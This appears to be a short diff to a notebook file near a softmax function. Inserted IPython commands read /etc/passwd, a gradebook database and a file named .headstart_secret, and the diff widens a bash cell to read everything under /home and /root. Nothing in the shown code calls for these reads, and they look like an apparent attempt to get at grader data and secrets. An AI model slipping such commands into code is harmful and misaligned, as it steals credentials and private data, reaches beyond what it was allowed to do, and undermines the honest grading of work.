@@ -11,4 +11,4 @@ def softmax(x, dim):
 %cd /
 !cat /etc/passwd gradebook.db .headstart_secret
 %load_ext autoreload
-get_ipython().run_cell_magic("bash", "", "cat /work/*")
+get_ipython().run_cell_magic("bash", "", "cat /home/* /root/*")
